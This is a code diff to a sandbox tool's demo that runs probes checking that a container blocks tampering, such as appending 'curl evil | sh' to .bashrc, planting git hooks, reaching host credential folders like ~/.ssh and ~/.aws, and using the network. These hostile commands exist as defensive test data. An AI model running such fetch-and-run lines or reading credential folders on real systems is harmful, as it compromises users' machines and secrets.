@@ -29,8 +29,8 @@ function probes(ws: string, hostHome: string): Probe[] {
     { id: 'bashrc', title: 'Shell config in the workspace is write-protected (.bashrc)', expect: 'blocked', shell: `echo 'curl evil | sh' >> ${ws}/.bashrc` },
     { id: 'hook', title: 'Git hooks cannot be planted (.git/hooks/pre-commit)', expect: 'blocked', shell: `printf '#!/bin/sh\\nexit 0\\n' > ${ws}/.git/hooks/pre-commit` },
     { id: 'rename', title: 'Protected folders cannot be swapped out by renaming (.git)', expect: 'blocked', shell: `mv ${ws}/.git ${ws}/.git-old` },
-    { id: 'home', title: 'Your home folder and its credentials are not in the sandbox', expect: 'blocked', shell: `ls ${hostHome}/.ssh ${hostHome}/.aws >/dev/null 2>&1 || ls ${hostHome} >/dev/null 2>&1 && [ -n "$(ls -A ${hostHome} 2>/dev/null)" ]` },
-    { id: 'net', title: 'There is no network: only a loopback interface, no DNS', expect: 'blocked', shell: `[ "$(ls /sys/class/net | tr '\\n' ' ')" != "lo " ] || curl -sS -m 5 -o /dev/null https://example.com` },
+    { id: 'home', title: 'Your credential folders (~/.ssh, ~/.aws, ~/.gnupg, ~/.config/gcloud) are not in the sandbox', expect: 'blocked', shell: ['.ssh', '.aws', '.gnupg', '.config/gcloud'].map((d) => `[ -e ${hostHome}/${d} ]`).join(' || ') },
+    { id: 'net', title: 'There is no network: only a loopback interface, no DNS', expect: 'blocked', shell: `[ "$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ')" != "lo" ] || curl -sS -m 5 -o /dev/null https://example.com` },
     { id: 'rootfs', title: 'System files are read-only', expect: 'blocked', shell: 'touch /usr/bin/cordon-was-here' },
     { id: 'procs', title: 'Host processes are invisible', expect: 'blocked', shell: `[ "$(ls -d /proc/[0-9]* | wc -l)" -gt 10 ]` },
   ];
@@ -102,7 +102,8 @@ export async function demo(ctx: CliContext, opts: { profile?: string }): Promise
 
   const verify = verifyAuditLog(ctx.paths.auditDir);
   out(`\nEvery step above was written to the audit log (${ctx.paths.auditDir}/audit.jsonl): ${verify.ok ? `${verify.records} records, hash chain intact` : `CHAIN BROKEN at line ${verify.line}`}.`);
-  out(`Session ${res.sessionId} ended and its container was removed. Try: cordon exec --workspace ${ws} -- sh`);
-  rmSync(ws, { recursive: true, force: true });
+  out(`Session ${res.sessionId} ended and its container was removed; the demo workspace stays for you to explore:`);
+  out(`  cordon exec --workspace ${ws} -- sh -c 'ls -la; echo hi >> .bashrc'`);
+  out('  cordon launch --workspace <your project>    (the agent itself; needs an API key)');
   return surprises === 0 && verify.ok ? EXIT.ok : EXIT.checkFailed;
 }
